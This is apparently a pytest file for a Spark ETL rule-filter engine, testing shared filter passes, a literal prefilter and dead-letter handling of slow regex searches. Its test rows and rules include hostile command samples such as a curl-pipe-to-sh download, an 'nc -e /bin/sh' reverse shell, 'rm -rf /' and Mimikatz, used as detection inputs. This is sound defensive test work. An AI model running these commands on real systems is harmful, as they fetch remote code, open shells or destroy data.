"""Rule filters in Spark: one shipped program per version, sibling filters sharing one pass."""

from __future__ import annotations

import pytest

from etl.compile import CompileContext, Compiler
from etl.components.transforms.filter import build as filter_mod
from tests.spark.helpers import checked, run_events

pytestmark = pytest.mark.spark

SIBLINGS = """
    name: t-siblings
    sources: [{id: src, type: file, path: in, format: jsonl, schema: {cmd: string, code: bigint}}]
    transforms:
      - id: shells
        type: filter
        input: src
        rules:
          - {id: curl_sh, when: {field: cmd, regex: 'curl .*\\| *sh'}}
          - {id: nc, when: {field: cmd, contains: 'nc -e'}}
      - id: errors
        type: filter
        input: src
        mode: drop
        rules:
          - {id: ok, when: {field: code, lt: 400}}
      - id: tagged
        type: filter
        input: src
        mode: tag
        rules:
          - {id: curl, when: {field: cmd, starts_with: curl}}
          - {id: sh, when: {field: cmd, regex: '\\bsh\\b'}}
          - {id: server, when: {field: code, ge: 500}}
        expr: "code IS NOT NULL"
      - id: other
        type: filter
        input: tagged
        rules: [{id: any_sh, when: {field: cmd, contains: sh}}]
    sinks:
      - {id: out_shells, type: file, input: shells, path: o1}
      - {id: out_errors, type: file, input: errors, path: o2}
      - {id: out_tagged, type: file, input: tagged, path: o3}
      - {id: out_other, type: file, input: other, path: o4}
"""

EVENTS = [
    {"cmd": "curl http://x/a.sh | sh", "code": 200},
    {"cmd": "nc -e /bin/sh host 4444", "code": 503},
    {"cmd": "ls -la", "code": 404},
    {"cmd": "bash -c true", "code": None},
    {"cmd": None, "code": 500},
]


@pytest.mark.parametrize("rules_jvm", ["on", "off"])
def test_sibling_filters_give_the_same_rows_as_alone(spark, tmp_path, monkeypatch, rules_jvm):
    monkeypatch.setenv("ETL_RULES_JVM", rules_jvm)
    out = run_events(spark, tmp_path, SIBLINGS, {"src": EVENTS})
    assert sorted(r["cmd"] for r in out["out_shells"]) == ["curl http://x/a.sh | sh", "nc -e /bin/sh host 4444"]
    assert sorted((r["cmd"] or "", r["code"]) for r in out["out_errors"]) == [
        ("", 500), ("bash -c true", None), ("ls -la", 404), ("nc -e /bin/sh host 4444", 503)]
    tagged = {r["cmd"]: sorted(r["matched_rules"]) for r in out["out_tagged"]}
    assert tagged == {"curl http://x/a.sh | sh": ["curl", "sh"], "nc -e /bin/sh host 4444": ["server", "sh"],
                      "ls -la": [], None: ["server"]}
    assert all(set(r) == {"cmd", "code", "matched_rules"} for r in out["out_tagged"])
    assert sorted(r["cmd"] for r in out["out_other"]) == ["curl http://x/a.sh | sh", "nc -e /bin/sh host 4444"]
    assert all(set(r) == {"cmd", "code"} for r in out["out_shells"] + out["out_errors"])


def test_a_filter_on_the_jvm_path_leaves_its_sibling_group(spark, tmp_path):
    c = checked(tmp_path, SIBLINGS)
    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), plan=c.plan)
    # shells: patterns on cmd only (etl.compile.rules_jvm); errors and tagged have native predicates
    assert [n.id for n in filter_mod.siblings(ctx, c.plan.graph.node("shells"))] == ["shells"]
    assert [n.id for n in filter_mod.siblings(ctx, c.plan.graph.node("errors"))] == ["errors", "tagged"]


def test_siblings_are_one_mapinarrow_pass_over_their_input(spark, tmp_path, monkeypatch):
    monkeypatch.setenv("ETL_RULES_JVM", "off")  # every filter on the Python path: all three share the pass
    c = checked(tmp_path, SIBLINGS)
    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), plan=c.plan)
    assert [n.id for n in filter_mod.siblings(ctx, c.plan.graph.node("shells"))] == ["shells", "errors", "tagged"]
    assert [n.id for n in filter_mod.siblings(ctx, c.plan.graph.node("other"))] == ["other"]
    comp = Compiler(ctx)
    df = spark.createDataFrame(EVENTS, "cmd string, code bigint")
    from etl.compile import Query

    q = Query("src", "src", None, [], ["shells", "errors", "tagged", "other"])
    frames = {}
    shared = ctx.caches.batch_shared
    for nid in q.nodes:
        node = c.plan.graph.node(nid)
        src = df if node.inputs[0].src == "src" else frames[node.inputs[0].src]
        frames[nid] = comp._call(node, [src]).out
    (entry,) = shared.values()
    assert entry.users == {"shells", "errors", "tagged"}
    plans = {nid: frames[nid]._jdf.queryExecution().analyzed().toString() for nid in ("shells", "errors", "tagged")}
    for text in plans.values():
        assert text.count("MapInArrow") == 1
    # the three outputs read the very same merged pass (one program for all siblings)
    shipped = ctx.caches.rule_broadcasts
    assert list(shipped) == ["shells+errors+tagged", "other"]
    merged = shipped["shells+errors+tagged"][0][1].value
    assert merged.program.rule_ids == ("curl_sh", "nc", "ok", "curl", "sh", "server")


def test_the_program_is_broadcast_once_not_pickled_per_batch(spark, tmp_path, monkeypatch):
    monkeypatch.setenv("ETL_RULES_JVM", "off")  # the Python path: the JVM path ships a file, not a broadcast
    c = checked(tmp_path, """
        name: t-ship
        sources: [{id: src, type: file, path: in, format: jsonl, schema: {cmd: string}}]
        transforms: [{id: f, type: filter, input: src, rules: [{id: a, when: {field: cmd, contains: a}}]}]
        sinks: [{id: out, type: file, input: f, path: o}]
    """)
    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), plan=c.plan)
    comp = Compiler(ctx)
    node = c.plan.graph.node("f")
    df = spark.createDataFrame([{"cmd": "a"}, {"cmd": "b"}], "cmd string")
    got = [comp._call(node, [df]).out for _ in range(3)]  # three micro-batches
    assert [r.cmd for r in got[2].collect()] == ["a"]
    assert len(ctx.caches.rule_broadcasts["f"]) == 1  # one broadcast for the three


def test_keep_filters_drop_impossible_rows_in_the_jvm_with_the_same_result(spark, tmp_path):
    import pyarrow as pa

    from etl.matching.matcher import Matcher

    c = checked(tmp_path, """
        name: t-prefilter
        sources: [{id: src, type: file, path: in, format: jsonl, schema: {cmd: string, host: string}}]
        transforms:
          - id: f
            type: filter
            input: src
            rules:
              - {id: sh, when: {field: cmd, regex: 'curl .*\\| *(ba)?sh'}}
              - {id: kat, when: {field: cmd, apply: [lower], contains: MimiKatz}}
              - {id: k, when: {field: cmd, regex: '(?i)k\\w+elvin', caseless: true}}
              - {id: prod, when: {all: [{field: host, starts_with: prod-}, {field: cmd, contains: 'rm -rf'}]}}
        sinks: [{id: out, type: file, input: f, path: o}]
    """)
    rows = [("curl a | sh", "h"), ("CURL A | BASH", "h"), ("curl a", "h"), ("run MIMIKATZ.exe", None),
            ("\u212axelvin", "h"), ("kxelvin", "h"), ("Kxelvin", "h"), ("rm -rf /", "prod-1"), ("rm -rf /", "dev"),
            (None, "prod-2"), ("é curl a | sh", "h"), ("ls -la", "h"), ("x" * 3000 + "curl | sh", "h")]
    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), plan=c.plan)
    df = spark.createDataFrame(rows, "cmd string, host string")
    out = Compiler(ctx)._call(c.plan.graph.node("f"), [df]).out
    assert "LiteralPrefilter.test" in out._jdf.queryExecution().optimizedPlan().toString()
    got = sorted((r.cmd or "", r.host or "") for r in out.collect())
    batch = pa.RecordBatch.from_pylist([{"cmd": a, "host": b} for a, b in rows])
    mask = Matcher(c.plan.step("f").program, cache=False).match(batch).mask()
    assert got == sorted((a or "", b or "") for (a, b), m in zip(rows, mask, strict=True) if m)
    assert len(got) == 7


def test_no_prefilter_when_a_rule_can_match_without_a_literal(spark, tmp_path):
    c = checked(tmp_path, """
        name: t-noprefilter
        sources: [{id: src, type: file, path: in, format: jsonl, schema: {cmd: string, port: bigint}}]
        transforms:
          - id: f
            type: filter
            input: src
            rules:
              - {id: sh, when: {field: cmd, regex: 'curl .*sh'}}
              - {id: port, when: {field: port, ge: 1024}}
        sinks: [{id: out, type: file, input: f, path: o}]
    """)
    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), plan=c.plan)
    df = spark.createDataFrame([("curl sh", 1), ("ls", 2048), ("ls", 1)], "cmd string, port bigint")
    out = Compiler(ctx)._call(c.plan.graph.node("f"), [df]).out
    assert "etl-literals-" not in out._jdf.queryExecution().optimizedPlan().toString()
    assert sorted(r.cmd for r in out.collect()) == ["curl sh", "ls"]


def test_the_jvm_literal_groups_equal_substring_search(spark):
    import random

    from pyspark.sql import functions as F

    from etl.compile import prefilter as pf

    rnd = random.Random(11)
    alphabet = "abcXYZ-./ 01"

    def lit(shortest):
        return "".join(rnd.choice(alphabet) for _ in range(rnd.randint(shortest, 6))).lower()

    def group(needs):  # a group's first need has literals of 3+ characters, its others of 2+ (as literals.py gives)
        return tuple(frozenset(lit(3 if k == 0 else 2) for _ in range(rnd.randint(1, 3))) for k in range(needs))

    # a few 3-character literals are found through the 4-grams they start (and at the end of a value apart),
    # many through a 3-gram table of their own (the 300-group set has over 64)
    sets = [(group(1),), tuple(group(1) for _ in range(5)), tuple(group(rnd.randint(1, 3)) for _ in range(300)),
            tuple(group(rnd.randint(2, 3)) for _ in range(40)), ((frozenset({"abc"}),), (frozenset({"b.-x"}),))]
    values = ["".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 40))) for _ in range(3000)]
    values += ["x\u00e9" + values[0], None, "abc", "ABC", "xxabc", "abcx", "ab", "xab", "b.-", "B.-X", "zb.-x"]
    df = spark.createDataFrame([(v,) for v in values], "v string")
    assert pf._register(spark)
    for groups in sets:
        static = pf.literal_test(spark, F.col("v"), groups)  # the static call of sessions etl started
        name = bytearray(pf._literal_file(spark, groups).encode())
        udf = F.call_function(pf.FUNCTION, F.col("v").cast("binary"), F.lit(name))  # the UDF of other sessions
        got = df.select(static.alias("m"), udf.alias("u")).collect()
        want = [False if v is None else (not v.isascii()) or any(
            all(any(x in v.lower() for x in need) for need in g) for g in groups) for v in values]
        assert [r.m for r in got] == want
        assert [r.u for r in got] == want
        assert 0 < sum(want) < len(values)


def test_drop_and_tag_modes_with_the_prefilter_equal_the_matcher(spark, tmp_path):
    import pyarrow as pa

    from etl.matching.matcher import Matcher

    rows = [("curl a | sh", "h"), ("CURL A | BASH", "h"), ("curl a", "h"), ("run MIMIKATZ.exe", None),
            ("\u212axelvin", "h"), ("kxelvin", "h"), ("rm -rf /", "prod-1"), ("rm -rf /", "dev"),
            (None, "prod-2"), ("ls -la", "h"), ("x" * 3000 + "curl | sh", "h")]
    for mode in ("drop", "tag"):
        c = checked(tmp_path, f"""
            name: t-prefilter-{mode}
            sources: [{{id: src, type: file, path: in, format: jsonl, schema: {{cmd: string, host: string}}}}]
            transforms:
              - id: f
                type: filter
                input: src
                mode: {mode}
                rules:
                  - {{id: sh, when: {{field: cmd, regex: 'curl .*\\| *(ba)?sh'}}}}
                  - {{id: kat, when: {{field: cmd, apply: [lower], contains: MimiKatz}}}}
                  - {{id: k, when: {{field: cmd, regex: '(?i)k\\w+elvin', caseless: true}}}}
                  - {{id: prod, when: {{all: [{{field: host, starts_with: prod-}}, {{field: cmd, contains: 'rm -rf'}}]}}}}
            sinks: [{{id: out, type: file, input: f, path: o}}]
        """)
        ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), plan=c.plan)
        df = spark.createDataFrame(rows, "cmd string, host string")
        out = Compiler(ctx)._call(c.plan.graph.node("f"), [df]).out
        assert "LiteralPrefilter.test" in out._jdf.queryExecution().optimizedPlan().toString()
        batch = pa.RecordBatch.from_pylist([{"cmd": a, "host": b} for a, b in rows])
        result = Matcher(c.plan.step("f").program, cache=False).match(batch)
        if mode == "drop":
            want = sorted((a or "", b or "") for (a, b), m in zip(rows, result.mask(), strict=True) if not m)
            assert sorted((r.cmd or "", r.host or "") for r in out.collect()) == want
            assert len(want) == 6
        else:
            want = sorted(((a or "", b or ""), tuple(ids)) for (a, b), ids in zip(rows, result.matched_ids(), strict=True))
            got = sorted(((r.cmd or "", r.host or ""), tuple(r.matched_rules)) for r in out.collect())
            assert got == want


# Hyperscan runs a superset of this backreference pattern; Python re confirms its reports, and on EVIL it would
# backtrack for 8 s (doubling with each extra "a"): it gives up after its budget (1 s) instead
EVIL_RULE = r"(a+)+b\1c"
EVIL = "a" * 22 + "b" + "a" * 27 + "c"


def test_a_row_whose_rule_search_gives_up_is_a_dead_letter(spark, tmp_path):
    from etl.components.transforms.filter.build import undecided_reason

    out = run_events(spark, tmp_path, f"""
        name: t-undecided
        sources: [{{id: src, type: file, path: in, format: jsonl, schema: {{msg: string, host: string}}}}]
        transforms:
          - id: keep
            type: filter
            input: src
            rules:
              - {{id: evil, when: {{field: msg, regex: '{EVIL_RULE}'}}}}
              - {{id: hello, when: {{field: msg, contains: hello}}}}
              - {{id: evil_or_h1, when: {{any: [{{field: msg, regex: '{EVIL_RULE}'}}, {{field: host, eq: h1}}]}}}}
            expr: "host <> 'h2'"
        sinks: [{{id: out, type: file, input: keep, path: out}}]
    """, {"src": [{"msg": EVIL, "host": "h0"}, {"msg": "xaabaac", "host": "h0"}, {"msg": EVIL, "host": "h1"},
                  {"msg": "nothing", "host": "h0"}, {"msg": EVIL, "host": "h2"}]})
    # row 3: evil_or_h1 holds whatever the pattern says; row 5: the expr drops it whatever the rules say
    assert sorted(out["out"], key=lambda r: r["host"]) == [{"msg": "xaabaac", "host": "h0"}, {"msg": EVIL, "host": "h1"}]
    assert [(d["stage"], d["reason"], d["payload"]) for d in out["dead_letter"]] == [
        ("keep", undecided_reason(), f'{{"msg":"{EVIL}","host":"h0"}}')]


def test_sibling_filters_send_their_undecided_rows_to_dead_letters(spark, tmp_path):
    from etl.components.transforms.filter.build import undecided_reason

    out = run_events(spark, tmp_path, f"""
        name: t-undecided2
        sources: [{{id: src, type: file, path: in, format: jsonl, schema: {{msg: string, host: string}}}}]
        transforms:
          - id: dropper
            type: filter
            input: src
            mode: drop
            rules:
              - {{id: evil, when: {{field: msg, regex: '{EVIL_RULE}'}}}}
              - {{id: h9, when: {{field: host, eq: h9}}}}
          - id: tagger
            type: filter
            input: src
            mode: tag
            rules:
              - {{id: evil, when: {{all: [{{field: msg, regex: '{EVIL_RULE}'}}, {{field: host, ne: h9}}]}}}}
              - {{id: hello, when: {{field: msg, contains: hello}}}}
            expr: "host <> 'h3'"
        sinks:
          - {{id: dropped, type: file, input: dropper, path: o1}}
          - {{id: tagged, type: file, input: tagger, path: o2}}
    """, {"src": [{"msg": EVIL, "host": "h0"}, {"msg": "hello aabaac", "host": "h0"}, {"msg": EVIL, "host": "h9"},
                  {"msg": "hello", "host": "h3"}]})
    assert out["dropped"] == [{"msg": "hello", "host": "h3"}]
    assert sorted((r["msg"], r["matched_rules"]) for r in out["tagged"]) == [
        (EVIL, []), ("hello aabaac", ["evil", "hello"])]  # h9: evil is false whatever the pattern says
    assert sorted((d["stage"], d["reason"], d["payload"]) for d in out["dead_letter"]) == [
        ("dropper", undecided_reason(), f'{{"msg":"{EVIL}","host":"h0"}}'),
        ("tagger", undecided_reason(), f'{{"msg":"{EVIL}","host":"h0"}}')]
